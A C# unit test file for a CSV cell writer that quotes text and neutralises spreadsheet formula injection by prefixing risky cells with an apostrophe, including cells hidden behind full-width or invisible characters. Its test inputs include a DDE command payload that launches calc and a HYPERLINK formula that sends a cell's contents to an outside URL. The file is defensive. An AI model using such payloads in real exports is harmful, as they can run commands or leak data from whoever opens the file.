using Matcher.Cli;

namespace Matcher.Service.Tests;

public sealed class CsvCellTests
{
    [Theory]
    [InlineData("保洁员", "\"保洁员\"")]
    [InlineData("一,二", "\"一,二\"")]
    [InlineData("5\" 盘", "\"5\"\" 盘\"")]
    [InlineData("一\n二", "\"一\n二\"")]
    [InlineData("3-4年", "\"3-4年\"")]
    [InlineData("a@b", "\"a@b\"")]
    [InlineData("", "")]
    public void Text_OfNoDanger_StandsAsItIsInQuotes(string text, string written) => Assert.Equal(written, ((CsvCell)text).ToString());

    [Theory]
    [InlineData("=1+1")]
    [InlineData("+1")]
    [InlineData("-1")]
    [InlineData("@SUM(A1)")]
    [InlineData("＝1+1")]
    [InlineData("＋1")]
    [InlineData("－1")]
    [InlineData("＠SUM(A1)")]
    [InlineData("﹦1")]
    [InlineData(" =1")]
    [InlineData("\u3000=1")]
    [InlineData("\u00a0-1")]
    [InlineData("\u200b=1")]
    [InlineData("\ufeff=1")]
    [InlineData("\t=1")]
    [InlineData("\t保洁员")]
    [InlineData("\r保洁员")]
    [InlineData("\n保洁员")]
    [InlineData("=HYPERLINK(\"http://example.org?\"&A1,\"点\")")]
    [InlineData("=cmd|' /C calc'!A0")]
    public void Text_ThatASpreadsheetWouldRun_BeginsWithAnApostropheInsideTheQuotes(string text)
    {
        string written = ((CsvCell)text).ToString();

        Assert.StartsWith("\"'", written, StringComparison.Ordinal);
        Assert.Equal($"'{text}", CsvText.Parse($"{written}\r\n")[0][0]);
    }

    [Theory]
    [InlineData("甲;=1+1", "甲;'=1+1")]
    [InlineData("甲; -1", "甲; '-1")]
    [InlineData("甲\n=1+1", "甲\n'=1+1")]
    [InlineData("甲\t@A1", "甲\t'@A1")]
    [InlineData("=1;=2", "'=1;'=2")]
    [InlineData(";=1", ";'=1")]
    public void Text_WithAFormulaBehindAnotherSeparator_IsHeldToo(string text, string read)
    {
        string written = ((CsvCell)text).ToString();

        Assert.Equal(read, CsvText.Parse($"{written}\r\n")[0][0]);
    }

    [Theory]
    [InlineData("客\u0000服", "\"客␀服\"")]
    [InlineData("\u001b[2J", "\"␛[2J\"")]
    public void Text_WithControlCharacters_ShowsTheirPictures(string text, string written) => Assert.Equal(written, ((CsvCell)text).ToString());

    [Fact]
    public void Numbers_OfOurs_StayNumbers()
    {
        Assert.Equal("-3", ((CsvCell)(-3L)).ToString());
        Assert.Equal("-0.5000", CsvCell.Points(-(1 << 23)).ToString());
        Assert.Equal("12.3", CsvCell.Kilometres(12.34).ToString());
        Assert.Equal("", default(CsvCell).ToString());
    }
}
